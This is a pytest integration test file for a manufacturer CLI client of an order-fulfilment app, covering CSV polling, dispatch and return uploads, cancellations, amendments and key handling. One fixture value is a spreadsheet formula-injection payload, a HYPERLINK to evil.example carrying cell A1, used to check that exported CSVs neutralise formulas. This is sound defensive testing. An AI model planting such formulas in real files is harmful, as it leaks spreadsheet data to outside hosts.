"""The kit maker's reference client (ops/manufacturer_client.py) against the real app over real
HTTP: Chalice's own local server in a thread on a loopback port, the app on real adapters (moto,
the Stripe emulator). Outcomes are checked in the files written and in the order store."""

from __future__ import annotations

import csv
import http.server
import secrets
import socket
import stat
import threading
from datetime import timedelta
from pathlib import Path

import pytest
import requests
from click.testing import CliRunner

from chalicelib import bootstrap, services
from chalicelib.domain.credentials import Scope
from chalicelib.domain.delivery import parse_delivery_details
from chalicelib.domain.orders import FulfilmentState
from chalicelib.domain.references import new_order_reference
from chalicelib.services import manufacturer as manufacturer_service
from chalicelib.services.credentials import create_api_key, revoke_api_key
from ops import manufacturer_client
from ops.manufacturer_client import ORDER_COLUMNS, manufacturer
from chalicelib.domain.times import to_iso
from tests.builders import NOW, delivery_form, load_register, register_row

ROOT = Path(__file__).resolve().parents[2]
TODAY = NOW.date().isoformat()
DISPATCHED_AT = to_iso(NOW)  # the deps fixture's clock: after release, not in the future
DISPATCH_COLUMNS = ["fulfilment_id", "kit_code", "carrier", "tracking_reference", "dispatched_at"]
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def api_url(deps):
    """The app served by chalice.local's server (what `chalice local` runs) on a free loopback port."""
    from chalice.config import Config
    from chalice.local import create_local_server

    from app import app

    bootstrap.use(deps)
    original_class = app.__class__
    config = Config.create(chalice_stage="local", app_name="tracekit", project_dir=str(ROOT))
    # Port 0: the OS picks a free port at bind time, so no other process can take it first.
    server = create_local_server(app, config, "127.0.0.1", 0)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server.server_address[1]}"
    server.shutdown()
    server.server.server_close()
    thread.join(timeout=5)
    # create_local_server swaps the app's class for a thread-local one; later tests get it back.
    app.__class__ = original_class
    bootstrap.reset()


@pytest.fixture
def token(deps) -> str:
    return create_api_key(Scope.MANUFACTURER, "Kit Maker Ltd", deps.api_keys, deps.clock())[1]


@pytest.fixture
def run(api_url, token):
    """Runs `manufacturer ...` as the kit maker would, the key in the environment only."""

    def invoke(*args: str, key: str | None = None, url: str | None = None):
        env = {"TRACEKIT_API_URL": url or api_url, "TRACEKIT_MANUFACTURER_KEY": key or token}
        return CliRunner().invoke(manufacturer, list(args), env=env)

    return invoke


@pytest.fixture(autouse=True)
def fixed_day(monkeypatch):
    """The CSV's name carries the UTC date; pinned so two polls are on the same day however late it is."""
    monkeypatch.setattr(manufacturer_client, "utc_today", lambda: TODAY)


def free_orders(deps, *deliveries: dict) -> list[str]:
    """Free orders (released at once), one certificate each; their references, oldest first."""
    load_register(deps, *[register_row(f"FA/{3000 + n}", "SW1A 2AA", free_kit="yes") for n in range(len(deliveries))])
    references = []
    for number, delivery in enumerate(deliveries):
        deps.clock.set(NOW + timedelta(minutes=number))  # distinct release times: a known order
        checked = services.check_certificate(f"FA/{3000 + number}", "SW1A 2AA", deps)
        details = parse_delivery_details(delivery_form(**delivery))
        references.append(services.confirm_order(checked, details, new_order_reference(), deps).reference)
    assert all(deps.orders.get(r).fulfilment is FulfilmentState.RELEASED for r in references)
    return references


def fid(reference: str) -> str:
    return "F-" + reference.removeprefix("TK-")


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8-sig") as handle:
        return list(csv.DictReader(handle))


def write_dispatches(path: Path, rows: list[dict[str, str]], columns=DISPATCH_COLUMNS) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=columns, extrasaction="ignore")
        writer.writeheader()
        writer.writerows(rows)
    return path


def dispatch(fulfilment_id: str, kit_code: str = "SW-100001", **overrides: str) -> dict[str, str]:
    row = {
        "fulfilment_id": fulfilment_id,
        "kit_code": kit_code,
        "carrier": "Royal Mail",
        "tracking_reference": "RM100001GB",
        "dispatched_at": DISPATCHED_AT,
    }
    return row | overrides


def test_poll_writes_every_page_to_a_safe_csv_and_accepts_what_it_wrote(run, deps, tmp_path, monkeypatch):
    monkeypatch.setattr(manufacturer_client, "PAGE_SIZE", 2)  # three orders: the cursor must be followed
    references = free_orders(
        deps,
        {"full_name": HOSTILE_NAME},
        {"full_name": "Bob Example", "address_line_1": "@1 Test Street", "address_line_2": "-Flat 2"},
        {"full_name": "Chloé Example", "town": "+London"},
    )
    result = run("poll", "--out-dir", str(tmp_path))
    assert result.exit_code == 0, result.output
    path = tmp_path / f"fulfilment-orders-{TODAY}.csv"
    assert f"{path}: 3 fulfilment orders written" in result.stdout
    assert stat.S_IMODE(path.stat().st_mode) == 0o600 and [p.name for p in tmp_path.iterdir()] == [path.name]
    assert "3 accepted, 0 not accepted" in result.stdout
    with path.open(newline="", encoding="utf-8-sig") as handle:
        assert next(csv.reader(handle)) == list(ORDER_COLUMNS)
    rows = read_csv(path)
    assert [row["order_reference"] for row in rows] == references
    assert [row["fulfilment_id"] for row in rows] == [fid(r) for r in references]
    assert rows[0]["recipient_name"] == "'" + HOSTILE_NAME
    assert (rows[1]["address_line_1"], rows[1]["address_line_2"]) == ("'@1 Test Street", "'-Flat 2")
    assert (rows[2]["recipient_name"], rows[2]["town"]) == ("Chloé Example", "'+London")
    assert rows[2] | {"created_at": "…"} == {
        "fulfilment_id": fid(references[2]),
        "order_reference": references[2],
        "product_code": "PMK-1",
        "quantity": "1",
        "recipient_name": "Chloé Example",
        "address_line_1": "1 Test Street",
        "address_line_2": "",
        "town": "'+London",
        "postcode": "SW1A 2AA",
        "created_at": "…",
    }
    assert rows[0]["created_at"].endswith("Z")
    assert all(deps.orders.get(r).fulfilment is FulfilmentState.ACCEPTED for r in references)


def test_a_second_poll_on_the_same_day_writes_a_second_file_and_never_overwrites(run, deps, tmp_path):
    references = free_orders(deps, {}, {"full_name": "Bob Example"})
    first = run("poll", "--out-dir", str(tmp_path), "--no-accept")
    assert first.exit_code == 0, first.output
    assert all(deps.orders.get(r).fulfilment is FulfilmentState.RELEASED for r in references)
    first_file = tmp_path / f"fulfilment-orders-{TODAY}.csv"
    before = first_file.read_bytes()
    second = run("poll", "--out-dir", str(tmp_path))
    assert second.exit_code == 0, second.output
    second_file = tmp_path / f"fulfilment-orders-{TODAY}-2.csv"
    assert f"{second_file}: 2 fulfilment orders written" in second.stdout
    assert first_file.read_bytes() == before
    assert [row["order_reference"] for row in read_csv(second_file)] == references
    assert all(deps.orders.get(r).fulfilment is FulfilmentState.ACCEPTED for r in references)
    assert run("poll", "--out-dir", str(tmp_path)).exit_code == 0  # accepting again is harmless
    assert (tmp_path / f"fulfilment-orders-{TODAY}-3.csv").exists()


def test_upload_dispatches_reports_each_row_and_records_only_the_good_one(run, deps, tmp_path):
    good, bad_fields, shipped = free_orders(deps, {}, {"full_name": "Bob Example"}, {"full_name": "Cy Example"})
    earlier = dispatch(fid(shipped), "SW-200002", tracking_reference="RM200002GB")
    manufacturer_service.dispatch_fulfilment(fid(shipped), earlier, "earlier-run", deps)
    unknown = "F-ZZZZZ-ZZZZZ"
    upload = write_dispatches(
        tmp_path / "dispatches.csv",
        [
            dispatch(fid(good)),
            dispatch(unknown),
            dispatch(fid(bad_fields), kit_code="", dispatched_at="yesterday"),
            dispatch(fid(shipped), "SW-300003"),
        ],
    )
    result = run("upload-dispatches", str(upload))
    assert result.exit_code == 1, result.output
    lines = result.stdout.splitlines()
    assert lines[0] == f"line 2: {fid(good)} dispatched"
    assert lines[1] == f"line 3: {unknown} refused (404): no such fulfilment order"
    assert lines[2] == (
        f"line 4: {fid(bad_fields)} refused (400): kit_code: kit_code must be 1-40 letters, digits or hyphens; "
        "dispatched_at: dispatched_at must be an ISO 8601 time with its offset, like 2026-11-29T10:15:00Z"
    )
    assert lines[3].startswith(f"line 5: {fid(shipped)} refused (409): ")
    assert "already dispatched with kit code SW-200002" in lines[3]
    assert lines[4] == "1 of 4 dispatches recorded"
    assert "Dispatches" in result.stderr and "4/4" in result.stderr  # the progress bar, kept off stdout
    recorded = deps.orders.get(good)
    assert recorded.fulfilment is FulfilmentState.DISPATCHED
    assert (recorded.dispatch.kit_code, recorded.dispatch.tracking_reference) == ("SW-100001", "RM100001GB")
    assert deps.orders.get(bad_fields).fulfilment is FulfilmentState.RELEASED
    assert deps.orders.get(shipped).dispatch.kit_code == "SW-200002"


def test_uploading_the_same_good_file_twice_is_accepted_both_times(run, deps, tmp_path):
    [reference] = free_orders(deps, {})
    upload = write_dispatches(tmp_path / "dispatches.csv", [dispatch(fid(reference))])
    for _ in range(2):
        result = run("upload-dispatches", str(upload))
        assert result.exit_code == 0, result.output
        assert result.stdout.splitlines() == [f"line 2: {fid(reference)} dispatched", "1 of 1 dispatches recorded"]
    assert [e.change for e in deps.orders.get(reference).history].count("dispatched by Royal Mail (RM100001GB)") == 1


def test_upload_returns_records_a_dispatched_parcel_once_and_refuses_one_never_posted(run, deps, tmp_path):
    posted, waiting = free_orders(deps, {}, {"full_name": "Bob Example"})
    manufacturer_service.dispatch_fulfilment(fid(posted), dispatch(fid(posted)), "earlier-run", deps)
    upload = tmp_path / "returns.csv"
    with upload.open("w", newline="") as handle:
        csv.writer(handle).writerows(
            [["fulfilment_id", "reason"], [fid(posted), "addressee gone away"], [fid(waiting), "gone away"]]
        )
    for _ in range(2):
        result = run("upload-returns", str(upload))
        assert result.exit_code == 1, result.output
        lines = result.stdout.splitlines()
        assert lines[0] == f"line 2: {fid(posted)} returned"
        assert lines[1].startswith(f"line 3: {fid(waiting)} refused (409): ") and "reject it instead" in lines[1]
        assert lines[2] == "1 of 2 returns recorded"
    assert deps.orders.get(posted).fulfilment is FulfilmentState.RETURNED
    assert deps.orders.get(posted).return_reason == "addressee gone away"
    assert deps.orders.get(waiting).fulfilment is FulfilmentState.RELEASED
    missing = tmp_path / "bad.csv"
    missing.write_text("fulfilment_id\n" + fid(posted) + "\n")
    assert run("upload-returns", str(missing)).exit_code == 2


@pytest.mark.parametrize(
    ("make_file", "message"),
    [
        (
            lambda d: write_dispatches(d / "x.csv", [], columns=["fulfilment_id", "kit_code", "carrier"]),
            "lacks the columns: tracking_reference, dispatched_at",
        ),
        (lambda d: d / "missing.csv", "cannot read"),
        (
            lambda d: (
                (d / "latin1.csv").write_bytes("fulfilment_id,kit\u00e9\n".encode("latin-1")) and d / "latin1.csv"
            ),
            "cannot read",
        ),
    ],
    ids=["missing columns", "no such file", "not UTF-8"],
)
def test_an_unusable_dispatch_file_exits_2_before_any_call(run, tmp_path, make_file, message):
    result = run("upload-dispatches", str(make_file(tmp_path)))
    assert result.exit_code == 2, result.output
    assert message in result.stderr
    assert result.stdout == ""


@pytest.fixture(params=["wrong secret", "finance key", "revoked key"])
def refused_key(request, deps, token) -> str:
    if request.param == "wrong secret":
        return token[:-43] + secrets.token_urlsafe(32)
    key, other = create_api_key(
        Scope.FINANCE if request.param == "finance key" else Scope.MANUFACTURER, "other", deps.api_keys, deps.clock()
    )
    if request.param == "revoked key":
        revoke_api_key(key.key_id, deps.api_keys, deps.clock())
    return other


def test_a_refused_key_exits_2_with_a_clear_message_and_changes_nothing(run, deps, tmp_path, refused_key):
    [reference] = free_orders(deps, {})
    polled = run("poll", "--out-dir", str(tmp_path), key=refused_key)
    assert polled.exit_code == 2, polled.output
    assert "the API refused the key (HTTP 403)" in polled.stderr
    assert list(tmp_path.iterdir()) == []
    upload = write_dispatches(tmp_path / "dispatches.csv", [dispatch(fid(reference))])
    uploaded = run("upload-dispatches", str(upload), key=refused_key)
    assert uploaded.exit_code == 2 and "the API refused the key" in uploaded.stderr
    assert deps.orders.get(reference).fulfilment is FulfilmentState.RELEASED


def test_no_key_in_the_environment_exits_2_without_calling(api_url, tmp_path):
    result = CliRunner().invoke(
        manufacturer, ["--api", api_url, "poll", "--out-dir", str(tmp_path)], env={"TRACEKIT_MANUFACTURER_KEY": ""}
    )
    assert result.exit_code == 2 and "set TRACEKIT_MANUFACTURER_KEY" in result.stderr


def cancelled_order(deps, stripe_emulator) -> str:
    """A paid order, released, then fully refunded before dispatch: the kit must not go."""
    load_register(deps, register_row("FA/4001", "SW1A 2AA"))  # no free kit: a paid order
    checked = services.check_certificate("FA/4001", "SW1A 2AA", deps)
    placed = services.confirm_order(checked, parse_delivery_details(delivery_form()), new_order_reference(), deps)
    session_id = placed.checkout_url.rsplit("/", 1)[-1]
    stripe_emulator.pay(session_id)
    services.fulfil_on_return(placed.reference, session_id, deps)
    services.refund_order(placed.reference, None, "holder changed their mind", "tester", deps)
    assert deps.orders.get(placed.reference).fulfilment is FulfilmentState.CANCELLED
    return placed.reference


def test_cancellations_are_listed_then_acknowledged_once_and_dispatch_is_refused(run, deps, stripe_emulator, tmp_path):
    reference = cancelled_order(deps, stripe_emulator)
    listed = run("cancellations")
    assert listed.exit_code == 0, listed.output
    assert listed.stdout.splitlines()[0].startswith(f"{fid(reference)} {reference} cancelled ")
    assert listed.stdout.splitlines()[-1] == "pending cancellations: 1"
    assert not deps.orders.get(reference).cancellation_acknowledged
    upload = write_dispatches(tmp_path / "dispatches.csv", [dispatch(fid(reference))])
    refused = run("upload-dispatches", str(upload))
    assert refused.exit_code == 1
    assert "refused (409): " in refused.stdout and "do not send it" in refused.stdout
    acknowledged = run("cancellations", "--acknowledge")
    assert acknowledged.exit_code == 0, acknowledged.output
    assert acknowledged.stdout.splitlines()[-1] == "pending cancellations: 1, acknowledged: 1"
    assert deps.orders.get(reference).cancellation_acknowledged
    assert run("cancellations").stdout.splitlines() == ["pending cancellations: 0"]


def test_an_unreachable_api_is_reported_per_row_not_as_a_traceback(run, deps, tmp_path, monkeypatch):
    monkeypatch.setattr(manufacturer_client, "BACKOFF_SECONDS", 0)
    with socket.socket() as unused:  # bound, never listening: every connection is refused
        unused.bind(("127.0.0.1", 0))
        url = f"http://127.0.0.1:{unused.getsockname()[1]}"
        upload = write_dispatches(tmp_path / "d.csv", [dispatch("F-AAAAA-AAAAA"), dispatch("F-BBBBB-BBBBB")])
        result = run("upload-dispatches", str(upload), url=url)
    assert result.exit_code == 1, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert result.stdout.splitlines() == [
        "line 2: F-AAAAA-AAAAA failed: could not reach the API after 4 attempts (ConnectionError)",
        "line 3: F-BBBBB-BBBBB failed: could not reach the API after 4 attempts (ConnectionError)",
        "0 of 2 dispatches recorded",
    ]


class FlakyGateway(http.server.BaseHTTPRequestHandler):
    """Answers 503 to the first two requests, then forwards to the real app, as a gateway recovering would."""

    upstream = ""
    seen: list[int] = []

    def do_POST(self):  # noqa: N802 - the name http.server calls
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        self.seen.append(len(self.seen) + 1)
        if len(self.seen) <= 2:
            return self._answer(503, b'{"error": "try again"}')
        headers = {name: self.headers[name] for name in ("Authorization", "Content-Type")}
        reply = requests.post(self.upstream + self.path, data=body, headers=headers, timeout=10)
        return self._answer(reply.status_code, reply.content)

    def _answer(self, status: int, body: bytes):
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):  # quiet: pytest shows stderr on failure only
        pass


def test_a_gateway_503_is_retried_and_the_row_still_recorded(run, api_url, deps, tmp_path, monkeypatch):
    monkeypatch.setattr(manufacturer_client, "BACKOFF_SECONDS", 0)
    [reference] = free_orders(deps, {})
    monkeypatch.setattr(FlakyGateway, "upstream", api_url)
    monkeypatch.setattr(FlakyGateway, "seen", [])
    gateway = http.server.ThreadingHTTPServer(("127.0.0.1", 0), FlakyGateway)
    threading.Thread(target=gateway.serve_forever, daemon=True).start()
    try:
        upload = write_dispatches(tmp_path / "d.csv", [dispatch(fid(reference))])
        result = run("upload-dispatches", str(upload), url=f"http://127.0.0.1:{gateway.server_address[1]}")
    finally:
        gateway.shutdown()
        gateway.server_close()
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines()[0] == f"line 2: {fid(reference)} dispatched"
    assert len(FlakyGateway.seen) == 3
    assert deps.orders.get(reference).fulfilment is FulfilmentState.DISPATCHED


def test_a_wrong_base_url_is_told_apart_from_a_refused_key(run, api_url, tmp_path):
    result = run("poll", "--out-dir", str(tmp_path), url=api_url + "/not-the-api")
    assert result.exit_code == 2
    assert "the API has no such route" in result.stderr


def test_plain_http_to_another_machine_is_refused_before_the_key_is_sent(run, tmp_path):
    result = run("poll", "--out-dir", str(tmp_path), url="http://tracekit.example")
    assert result.exit_code == 2 and "not https" in result.stderr


def test_amendments_are_downloaded_to_a_safe_csv_and_acknowledged_from_it_once(run, deps, tmp_path):
    [reference] = free_orders(deps, {})
    new = {"full_name": "=Sam New", "address_line_1": "2 New Road", "town": "Leeds", "postcode": "LS1 4AP"}
    services.change_delivery_address(reference, "FA/3000", "SW1A 2AA", new, deps, "198.51.100.7")
    downloaded = run("amendments", "--out-dir", str(tmp_path))
    assert downloaded.exit_code == 0, downloaded.output
    path = tmp_path / f"address-amendments-{TODAY}.csv"
    assert f"{path}: 1 address amendments written" in downloaded.stdout
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    [row] = read_csv(path)
    assert (row["fulfilment_id"], row["amendment"], row["town"], row["postcode"]) == (
        fid(reference),
        "1",
        "Leeds",
        "LS1 4AP",
    )
    assert row["recipient_name"] == "'=Sam New"  # a spreadsheet formula neutralised
    for _ in range(2):  # the same file again is safe
        acknowledged = run("acknowledge-amendments", str(path))
        assert acknowledged.exit_code == 0, acknowledged.output
        assert f"line 2: {fid(reference)} amendment 1 acknowledged" in acknowledged.stdout
    assert deps.orders.get(reference).amendment_acknowledged == 1
    assert run("amendments", "--out-dir", str(tmp_path)).exit_code == 0  # nothing left to acknowledge
    assert read_csv(tmp_path / f"address-amendments-{TODAY}-2.csv") == []
    too_far = write_dispatches(
        tmp_path / "ack.csv", [{"fulfilment_id": fid(reference), "amendment": "2"}], ("fulfilment_id", "amendment")
    )
    refused = run("acknowledge-amendments", str(too_far))
    assert refused.exit_code == 1 and "refused (409)" in refused.stdout
